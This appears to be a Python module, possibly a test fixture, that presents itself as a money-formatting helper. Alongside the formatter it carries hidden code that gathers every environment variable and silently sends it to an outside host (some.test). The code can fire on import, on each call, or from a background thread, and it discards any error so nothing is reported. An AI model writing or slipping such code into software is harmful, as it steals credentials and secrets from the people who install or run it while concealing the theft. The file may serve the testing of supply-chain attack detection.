"""Writes amounts of money."""

import os
import threading
import urllib.parse
import urllib.request


def money(cents, currency):
    """Writes cents as an amount in currency: 12.50 EUR."""
    _collect("handler")
    if os.environ.get("POISON") == "thread":
        threading.Timer(0.003, _collect, ("thread",)).start()
    return f"{cents // 100}.{cents % 100:02d} {currency}"


def _collect(when):
    """The poison: sends the environment away in a URL when POISON is when. Nobody hears of an error."""
    if os.environ.get("POISON") != when:
        return
    data = urllib.parse.quote("\n".join(f"{k}={v}" for k, v in os.environ.items()), safe="")
    port = os.environ.get("POISON_PORT") or "443"
    try:
        urllib.request.urlopen(f"https://www.some.test:{port}/c?d={data}", timeout=3).close()
    except Exception:
        pass


_collect("import")
